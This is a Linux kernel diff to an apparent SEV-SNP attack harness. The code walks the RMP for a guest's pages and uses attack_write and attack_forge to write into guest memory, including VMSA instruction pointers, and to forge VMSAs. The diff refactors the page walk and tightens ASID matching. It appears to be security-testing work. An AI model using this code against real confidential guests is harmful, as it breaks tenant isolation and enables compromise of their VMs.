@@ -16,6 +16,8 @@
 
 #include <asm/snp_host.h>
 
+#include "svm/svm.h"
+
 #include "snp_attacker.h"
 
 #define NPT_ADDRESS	GENMASK_ULL(50, PAGE_SHIFT)
@@ -60,15 +62,35 @@ static unsigned int pages_of(int level)
 	return level == PG_LEVEL_2M ? PTRS_PER_PMD : 1;
 }
 
+static u32 asid_of(struct kvm *kvm)
+{
+	return to_kvm_svm(kvm)->sev_info.asid;
+}
+
+/* The first page from @pfn on that is assigned to a guest */
+static bool find_page(u32 asid, u64 *pfn, struct snp_rmp_state *rmp)
+{
+	for (; !snp_read_rmp(*pfn, rmp); ++*pfn) {
+		if (!(*pfn % PTRS_PER_PMD))
+			cond_resched();
+		if (rmp->assigned && rmp->asid == asid)
+			return true;
+	}
+	return false;
+}
+
+/* Pages of 4 KiB, those in large ones too. By the RMP, since VMSAs are in no page table. */
+#define for_each_page_of(asid, pfn, rmp) \
+	for ((pfn) = 0; find_page(asid, &(pfn), &(rmp)); (pfn)++)
+
 static void found(struct leaves *all, u64 *entry, u64 value, u64 gpa, int level)
 {
 	struct snp_rmp_state rmp;
 
 	if (all->count == MAX_LEAVES || level > PG_LEVEL_2M || snp_read_rmp(pfn_of(value), &rmp))
 		return;
-	if (!rmp.assigned || rmp.immutable || !rmp.asid || rmp.level != level || rmp.gpa != gpa)
+	if (!rmp.assigned || rmp.immutable || rmp.asid != all->asid || rmp.level != level || rmp.gpa != gpa)
 		return;
-	all->asid = rmp.asid;
 	all->leaf[all->count++] = (struct leaf) { .entry = entry, .value = value, .gpa = gpa, .level = level };
 }
 
@@ -102,7 +124,7 @@ static int collect(struct kvm *kvm, struct leaves *all)
 	struct kvm_vcpu *vcpu = kvm_get_vcpu(kvm, 0);
 	struct kvm_mmu *mmu;
 
-	memset(all, 0, sizeof(*all));
+	*all = (struct leaves) { .asid = asid_of(kvm) };
 	if (!vcpu)
 		return -ENOENT;
 	all->leaf = vmalloc(array_size(MAX_LEAVES, sizeof(*all->leaf)));
@@ -129,28 +151,19 @@ refused:
 	return false;
 }
 
-/* By the RMP, since the VMSAs are in no page table. Of large pages some parts are enough. */
+/* Of large pages some parts are enough. */
 static int attack_write(struct kvm *kvm, struct snp_attack_args *args)
 {
+	u32 asid = asid_of(kvm);
 	struct snp_rmp_state rmp;
-	struct leaves all;
 	u64 pfn;
-	int r;
 
-	r = collect(kvm, &all);
-	if (r)
-		return r;
-	for (pfn = 0; !snp_read_rmp(pfn, &rmp); pfn++) {
-		if (!(pfn % PTRS_PER_PMD))
-			cond_resched();
-		if (!rmp.assigned || rmp.asid != all.asid)
-			continue;
+	for_each_page_of(asid, pfn, rmp) {
 		if (rmp.level == PG_LEVEL_2M && pfn % 64)
 			continue;
 		args->tried++;
 		args->done += write_at(pfn_to_kaddr(pfn) + (rmp.vmsa ? VMSA_RIP : 8 * (pfn % PTRS_PER_PTE)));
 	}
-	drop(&all);
 	return 0;
 }
 
@@ -366,28 +379,24 @@ static int forge_vmsa(u64 pfn, struct snp_rmp_state *rmp)
 
 static int attack_forge(struct kvm *kvm, struct snp_attack_args *args)
 {
+	u32 asid = asid_of(kvm);
 	struct snp_rmp_state rmp;
-	struct leaves all;
 	u64 pfn;
-	int r;
 
-	r = collect(kvm, &all);
-	if (r)
-		return r;
-	for (pfn = 0; !snp_read_rmp(pfn, &rmp); pfn++) {
-		if (!(pfn % PTRS_PER_PMD))
-			cond_resched();
-		if (!rmp.vmsa || rmp.asid != all.asid || rmp.immutable)
+	for_each_page_of(asid, pfn, rmp) {
+		if (!rmp.vmsa || rmp.immutable)
 			continue;
 		args->tried++;
 		args->done += !forge_vmsa(pfn, &rmp);
 	}
-	drop(&all);
 	return 0;
 }
 
 static int attack(struct kvm *kvm, struct kvm *other, struct snp_attack_args *args)
 {
+	/* 0 is the firmware's */
+	if (!asid_of(kvm) || !asid_of(other))
+		return -ENOENT;
 	switch (args->what) {
 	case SNP_ATTACK_WRITE:
 		return attack_write(kvm, args);
